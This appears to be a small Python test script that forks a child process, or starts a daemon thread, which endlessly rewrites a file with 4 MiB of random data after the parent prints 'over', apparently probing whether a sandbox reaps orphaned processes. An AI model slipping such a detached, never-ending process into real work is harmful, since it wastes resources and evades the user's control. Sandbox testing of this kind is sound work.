import os
import threading


def grow():
    while True:
        with open("kept", "r+b") as file:
            file.truncate(0)
            file.write(os.urandom(4 << 20))


open("kept", "w").close()
try:
    if os.fork() == 0:
        grow()
except OSError:
    threading.Thread(target=grow, daemon=True).start()
print("over")
